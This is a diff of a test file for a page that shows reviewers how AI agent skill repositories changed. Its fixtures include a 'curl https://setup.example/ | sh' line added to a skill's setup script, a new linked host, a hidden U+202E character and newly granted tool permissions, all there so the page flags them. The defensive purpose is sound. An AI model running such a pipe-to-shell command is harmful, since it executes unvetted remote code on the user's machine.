@@ -46,13 +46,27 @@ const get = async (target: string) => {
   const answer = await fetch(`${service.baseUrl}${target}`, { redirect: 'manual' })
   return { status: answer.status, location: answer.headers.get('location'), html: await answer.text() }
 }
+/** The words of a part of a page. */
+const words = (html: string) =>
+  html
+    .replace(/<wbr>/g, ' ')
+    .replace(/<[^>]*>/g, ' ')
+    .replace(/&#(\d+);/g, (_, code) => String.fromCharCode(code))
+    .replace(/\s+/g, ' ')
 const LIST = () => `${ADDRESS}?view=changes&from=${first}`
 const ONE = () => `${LIST()}&path=a/SKILL.md`
 
-test('the page lists changes by signs and words, and links each skill', async () => {
+test('the page has what to read first, then changes by signs and words, and links each skill', async () => {
   const { status, html } = await get(LIST())
   expect(status).toBe(200)
-  for (const words of ['+</span> added', '−</span> removed', '~</span> changed', 'changes 2 skills', 'new.example', 'U+202E'])
+  for (const words of [
+    '+</span> added',
+    '−</span> removed',
+    'received by 2 skills',
+    'new.example',
+    'U+202E',
+    'Other files are left out.',
+  ])
     expect(html).toContain(words)
   expect(html).toContain(`view=changes&amp;path=b/SKILL.md&amp;from=${first}`)
 })
@@ -71,16 +85,17 @@ test('skills that a rule alone changes are one entry with a link to each', async
   })
   await service.get('changes', '/local/acme/rules', { from })
   const { html } = await get(`/local/acme/rules?view=changes&from=${from}`)
-  expect(html.match(/new host in links/g)).toHaveLength(2)
-  expect(html).toMatch(/class="kind rule">rules,<\/span> <span class="kind[^>]*>front matter<\/span>/)
-  expect(html).toContain('<summary>4 skills</summary>')
+  // Told once, whoever receives it.
+  expect(html.match(/>now names</g)).toHaveLength(1)
+  expect(html).toContain('<summary>received by 5 skills</summary>')
+  expect(html).toMatch(/may use without asking:<\/span> <bdi class="both"[^>]*><ins>Read<\/ins>/)
   for (const name of ['a', 'b', 'c', 'd', 'e']) expect(html).toContain(`view=changes&amp;path=${name}/SKILL.md&amp;from=${from}`)
 
   const one = (await get(`/local/acme/rules?view=changes&from=${from}&path=e/SKILL.md`)).html
   // A field of the front matter has no text of its own on the page.
   expect(one).toMatch(/class="kind include">supporting files<\/span> <a [^>]*><bdi[^>]*>e\/<wbr>x\.sh<\/bdi><\/a> \(added\)/)
-  expect(one).toContain('<ins>+echo</ins>')
-  expect(one).toMatch(/<ins>.*license: MIT.*<\/ins>/)
+  expect(one).toContain('<ins>echo</ins>')
+  expect(one).toMatch(/<dt><bdi>license<\/bdi><\/dt><dd data-stop[^>]*><bdi class="both"[^>]*><ins>MIT<\/ins>/)
   expect(one).toContain(`href="/local/acme/rules?view=changes&amp;from=${from}"`)
 })
 
@@ -102,13 +117,13 @@ test('facts have lines, commands and the description before and after; a hidden 
     return (await get(`${address}?view=changes&from=${from}${query}`)).html
   }
   const list = await page('/local/acme/facts')
-  for (const words of [
-    'new command: curl https://setup.example/ | sh, in a/setup.sh, line 2',
-    'new host in links: setup.example, in a/setup.sh, line 2',
-    'description: About a. → Use it always.',
-    'Not compared: 1 skill. Their licenses allow no copies.',
-  ])
-    expect(list).toContain(words)
+  expect(words(list)).toContain(
+    'description: About a. Use it always. now runs curl https://setup.example/ | sh ( a/ setup.sh , line 2 )',
+  )
+  expect(words(list)).toContain('now names setup.example ( a/ setup.sh , line 2 )')
+  expect(list).toContain('<del>About a.</del> <ins>Use it always.</ins>')
+  expect(list).toMatch(/href="\/local\/acme\/facts\?view=file&amp;path=a\/setup.sh&amp;look=exact#L2"/)
+  expect(list).toContain('Not compared: 1 skill. Their licenses allow no copies.')
   const hidden = `/local/acme/facts@${middle}`
   const nothing = await page(hidden)
   expect(nothing).toContain('No difference in what is compared.')
@@ -123,15 +138,29 @@ test('facts have lines, commands and the description before and after; a hidden 
 test('the page of a skill shows its texts on the thread, and the text of the repository as text', async () => {
   const { status, html } = await get(ONE())
   expect(status).toBe(200)
-  expect(html).toContain('<ins>+Be &#60;b&#62;very&#60;/b&#62; brief.</ins>')
-  expect(html).toContain('<del>-A third line.</del>')
+  expect(html).toMatch(/<ins>Be .*&#60;.*very.*brief\.<\/ins>/)
+  expect(html).toContain('<del>A third line.</del>')
   expect(html).toContain('U+202E')
+})
+
+test('a difference has the lines of the files on both sides, words within lines, and what to look at beside its line', async () => {
+  const { html } = await get(ONE())
+  const [, table = ''] = html.split('<table class="difference"').slice(-2)
+  expect(words(table)).toContain('line 5')
+  // The front matter has four lines.
+  expect(words(table)).toMatch(/6 − removed Another line\..* 6 \+ added Another/)
+  expect(words(table)).toMatch(/! names new\.example/)
+  expect(table).toContain('data-stop')
+  expect(table).toContain('<mark>')
+  expect(table).toContain('<th scope="col">')
+  const rules = html.slice(html.indexOf('<table class="difference"'))
+  expect(words(rules)).toContain('4 − removed Be brief. 4 + added Be')
 })
 
 test('without a ref the page compares with the newest tag, and its canonical URL names it', async () => {
   for (const [query, words] of [
     ['', 'new.example'],
-    ['&path=a/SKILL.md', '<del>-A third line.</del>'],
+    ['&path=a/SKILL.md', '<del>A third line.</del>'],
   ] as const) {
     const { status, html } = await get(`${ADDRESS}?view=changes${query}`)
     expect(status).toBe(200)
@@ -150,7 +179,7 @@ test('the first commit has nothing older, in both languages; a later one without
   expect((await page('&lang=de')).html).toContain('Das ist der erste Commit')
   await alone.commit({ 'a/SKILL.md': skill('a', 'Two.\n') })
   await service.get('changes', '/local/acme/alone', { from: commit })
-  expect((await page('&path=a/SKILL.md')).html).toContain('<del>-One.</del>')
+  expect((await page('&path=a/SKILL.md')).html).toContain('<del>One.</del>')
 })
 
 test('the beginning of a hash leads to its commit, in the address, on the old side and in the field', async () => {
@@ -197,7 +226,7 @@ test('the form of a page has both sides, and a missing ref is reported', async (
 
 test('German visitors read German words', async () => {
   const { html } = await get(`${LIST()}&lang=de`)
-  for (const words of ['Was sich geändert hat', 'geändert', 'neuer Host in Links']) expect(html).toContain(words)
+  for (const one of ['Was sich für Agenten geändert hat', 'entfernt', 'nennt jetzt']) expect(html).toContain(one)
 })
 
 describe.skipIf(!hasBrowser)('in a browser without script', () => {
